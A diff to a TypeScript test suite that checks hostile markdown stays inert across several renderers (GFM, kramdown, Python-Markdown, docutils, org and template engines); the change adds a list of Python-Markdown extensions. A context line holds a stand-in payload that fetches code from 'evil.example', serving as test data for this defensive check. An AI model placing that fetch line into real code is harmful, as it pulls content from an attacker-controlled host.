@@ -79,6 +79,9 @@ export const y = fetch("https://evil.example/j")
 ${payloads.link}
 `;
 
+/** Python-Markdown with what its sites usually turn on. */
+const markdownExtra = "markdown extra sane_lists smarty wikilinks toc nl2br";
+
 const github = (text: string) =>
   micromark(text, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
 
@@ -160,7 +163,7 @@ describe("a model's answer in a document", () => {
     const md = put(hostile, "markdown");
     assertDead(github(md), md);
     assertDead(whole(ruby([["kramdown", md]])[0]!), md);
-    assertDead(whole(python([["markdown-extra", md]])[0]!), md);
+    assertDead(whole(python([[markdownExtra, md]])[0]!), md);
     for (const [engine, run] of Object.entries(templates)) assert.equal(run(md), md, engine);
     assert.equal(whole(python([["jinja", md]])[0]!), md);
 
@@ -226,7 +229,7 @@ describe("a model's answer in a document", () => {
       ...through(inLanguage("restructuredtext"), (texts) => python(texts.map((text) => ["docutils", text]))),
       ...(await Promise.all(inLanguage("org").map(async (text) => [text, await orgPage(text)] as const))),
       ...through(inLanguage("markdown"), (texts) => ruby(texts.map((text) => ["kramdown", text]))),
-      ...through(inLanguage("markdown"), (texts) => python(texts.map((text) => ["markdown-extra", text]))),
+      ...through(inLanguage("markdown"), (texts) => python(texts.map((text) => [markdownExtra, text]))),
     ];
     for (const [text, page] of rendered) assertDead(page, text);
     for (const [engine, run] of Object.entries(templates)) {
